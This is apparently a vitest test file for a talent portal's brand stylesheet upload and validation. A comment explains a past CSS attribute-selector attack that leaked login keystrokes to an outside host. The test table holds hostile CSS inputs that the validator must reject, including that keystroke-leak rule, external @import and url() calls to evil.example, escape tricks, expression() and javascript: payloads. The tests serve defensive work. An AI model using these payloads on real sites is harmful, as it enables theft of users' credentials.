import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { BRAND_STYLESHEET_MAX_BYTES, catalogues } from '@talent/contract';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Harness, type Selection, setupApi } from '../../test/harness.js';
import { multipart, type Part } from '../../test/multipart.js';

// SECURITY 22: no third-party content on a tenant's host. A brand owner once pointed the
// stylesheet at `https://evil/a.php?.css`: with `style-src https:` and React mirroring typed text
// into `value`, rules like `input[value^="a"] { background: url(https://evil/?a) }` sent every
// keystroke of the login form away. Brand stylesheets are now files uploaded to the portal,
// checked as CSS and served by it; logos are uploads too.

let t: Harness;
let owner: string;
beforeAll(async () => {
  t = await setupApi({ uploadsDir: mkdtempSync(join(tmpdir(), 'tp-brand-css-')) });
  owner = await t.login('owner@acme.test');
});
afterAll(() => t.close());

const acme = () => ({ account: t.ids.acme });
const css = (text: string | Buffer, type = 'text/css'): Part[] => [
  { name: 'file', filename: 'brand.css', type, data: text },
  { name: 'purpose', data: 'brand_stylesheet' },
];
function upload(parts: Part[], token = owner, select: Selection = acme()) {
  const body = multipart(parts);
  return t.call({
    method: 'POST',
    url: '/portal/v1/forms/upload-file',
    payload: body.payload,
    headers: body.headers,
    token,
    select,
  });
}
const brandBody = async () => {
  const current = (
    await t.call({ method: 'GET', url: '/portal/v1/accounts/brand', token: owner, select: acme() })
  ).json().data;
  const { name: _n, domains: _d, updated_at: _u, ...body } = current;
  return body;
};
const saveBrand = async (patch: object) =>
  t.call({
    method: 'PUT',
    url: '/portal/v1/accounts/brand',
    token: owner,
    select: acme(),
    payload: { ...(await brandBody()), ...patch },
  });
const fieldError = (rule: keyof typeof catalogues.en.fields) => ({
  message: 'The given data was invalid.',
  code: 'validation_failed',
  errors: { file: [catalogues.en.fields[rule]] },
});

const CLEAN = `/* Acme */
:root { --brand-accent: #0b6e4f; }
@media (max-width: 600px) { h1 { font-size: 1.4rem !important; } }
@font-face { font-family: Brand; src: url(/brands/brand.woff2) format("woff2"); }
.hero { background: url("/portal/uploads/brand-logos/0123456789abcdef0123456789abcdef.png") no-repeat; }
a::before { content: "\\201C"; }
`;

describe('brand stylesheet addresses', () => {
  it('refuses the third-party stylesheet of the attack, and any https stylesheet or logo (422)', async () => {
    for (const stylesheet_path of [
      'https://evil/a.php?.css',
      'https://cdn.example.com/brand.css',
      '//evil.example/brand.css',
      '/portal/uploads/brand-logos/0123456789abcdef0123456789abcdef.css',
      '/brands/../portal/x.css',
    ]) {
      const res = await saveBrand({ stylesheet_path });
      expect(res.statusCode, stylesheet_path).toBe(422);
      expect(Object.keys(res.json().errors), stylesheet_path).toEqual(['stylesheet_path']);
    }
    for (const logo_square of ['https://evil/a.png', 'https://cdn.example.com/logo.svg', '//evil/x.png']) {
      const res = await saveBrand({ logo_square });
      expect(res.statusCode, logo_square).toBe(422);
      expect(Object.keys(res.json().errors), logo_square).toEqual(['logo_square']);
    }
  });

  it('refuses an upload path with no such upload behind it', async () => {
    const res = await saveBrand({
      stylesheet_path: '/portal/uploads/brand-stylesheets/0123456789abcdef0123456789abcdef.css',
    });
    expect(res.statusCode).toBe(422);
    expect(res.json().errors).toEqual({ stylesheet_path: [catalogues.en.fields.invalid] });
  });
});

describe('POST /forms/upload-file (brand_stylesheet)', () => {
  it('stores a clean stylesheet, serves it as text/css with nosniff, and the brand serves it versioned', async () => {
    const res = await upload(css(CLEAN));
    expect(res.statusCode).toBe(200);
    const { data } = res.json();
    expect(data).toEqual({
      url: expect.stringMatching(/^\/portal\/uploads\/brand-stylesheets\/[a-f0-9]{32}\.css$/),
      content_type: 'text/css; charset=utf-8',
      size: Buffer.byteLength(CLEAN),
    });
    const served = await t.app.inject({ method: 'GET', url: data.url });
    expect(served.statusCode).toBe(200);
    expect(served.headers['content-type']).toBe('text/css; charset=utf-8');
    expect(served.headers['x-content-type-options']).toBe('nosniff');
    expect(served.body).toBe(CLEAN);

    const saved = await saveBrand({ stylesheet_path: data.url });
    expect(saved.statusCode).toBe(200);
    expect(saved.json().data.stylesheet_path).toBe(data.url);
    const brand = (await t.app.inject({ method: 'GET', url: '/portal/accounts/branding?domain=localhost' })).json();
    // Spec §9: the stylesheet URL carries a timestamp version query.
    expect(brand.data.branding.stylesheet.path).toMatch(new RegExp(`^${data.url.replace(/\./g, '\\.')}\\?v=\\d{10,}$`));
  });

  it.each([
    ['@import', '@import url("https://evil.example/x.css");', 'stylesheet_import'],
    ['@import of a string', '@import "/brands/acme.css";', 'stylesheet_import'],
    ['@import written with an escape', '@\\69mport "https://evil.example/x.css";', 'stylesheet_import'],
    ['the keystroke leak', 'input[value^="a"] { background: url(https://evil.example/?k=a); }', 'stylesheet_url'],
    ['a quoted external url()', 'a { background: url("https://evil.example/x.png"); }', 'stylesheet_url'],
    ['a protocol-relative url()', 'a { background: url(//evil.example/x.png); }', 'stylesheet_url'],
    ['a backslash url()', 'a { background: url("/\\\\evil.example/x.png"); }', 'stylesheet_url'],
    ['a url() with a tab in the slashes', 'a { background: url("/\\9/evil.example/x.png"); }', 'stylesheet_url'],
    ['an escaped url() function', 'a { background: u\\72l("https://evil.example/x"); }', 'stylesheet_url'],
    ['an escaped url token', 'a { background: \\75 rl(https://evil.example/x); }', 'stylesheet_url'],
    ['a url() in a custom property', ':root { --bg: url(https://evil.example/x); }', 'stylesheet_url'],
    ['image-set()', 'a { background: image-set("https://evil.example/x.png" 1x); }', 'stylesheet_url'],
    // Issue 31, item 9: the string waits in a custom property and reaches image-set() through var().
    [
      'a URL string used through var()',
      ':root{--u:"https://evil.example/x.png"} a{background:image-set(var(--u) 1x)}',
      'stylesheet_url',
    ],
    ['a URL string anywhere', 'a::after { content: "https://evil.example/x.png"; }', 'stylesheet_url'],
    ['a data: URL', 'a { background: url(data:image/png;base64,AAAA); }', 'stylesheet_url'],
    [
      'a web font elsewhere',
      '@font-face { font-family: x; src: url(https://evil.example/f.woff2); }',
      'stylesheet_url',
    ],
    ['expression()', 'a { width: expression(alert(1)); }', 'stylesheet_script'],
    ['behavior', 'a { behavior: url(/x.htc); }', 'stylesheet_script'],
    ['behavior written with an escape', 'a { beh\\61vior: url(/x.htc); }', 'stylesheet_script'],
    ['-moz-binding', 'a { -moz-binding: url(/x.xml#x); }', 'stylesheet_script'],
    ['javascript:', 'a { background: url("javascript:alert(1)"); }', 'stylesheet_script'],
    ['javascript: in a string', 'a::after { content: "javascript:alert(1)"; }', 'stylesheet_script'],
    ['broken CSS', 'a { color: red }}} <script>', 'stylesheet_syntax'],
    ['HTML', '<html><body>hi</body></html>', 'stylesheet_syntax'],
    ['bytes that are not UTF-8', Buffer.from([0x61, 0x7b, 0xff, 0xfe, 0x7d]), 'stylesheet_syntax'],
  ] as const)('refuses %s (422 on the file)', async (_what, text, rule) => {
    const res = await upload(css(text));
    expect(res.statusCode).toBe(422);
    expect(res.json()).toEqual(fieldError(rule));
  });

  it('refuses a file that does not say it is CSS, and an empty one', async () => {
    expect((await upload(css('a { color: red; }', 'image/png'))).json()).toEqual(fieldError('stylesheet_syntax'));
    expect((await upload(css(''))).json().errors).toEqual({ file: [catalogues.en.fields.required] });
  });

  it(`refuses a stylesheet over ${BRAND_STYLESHEET_MAX_BYTES / 1024} KB with 413`, async () => {
    const big = `a { color: red; }\n${'/* padding */\n'.repeat(Math.ceil(BRAND_STYLESHEET_MAX_BYTES / 14))}`;
    const res = await upload(css(big));
    expect(res.statusCode).toBe(413);
    expect(res.json().code).toBe('payload_too_large');
  });

  it('is for whoever may change the account’s brand', async () => {
    const manager = await t.login('manager@acme.test');
    const res = await upload(css(CLEAN), manager, { account: t.ids.acme, site: t.ids.acmeJobs });
    expect(res.statusCode).toBe(403);
  });
});
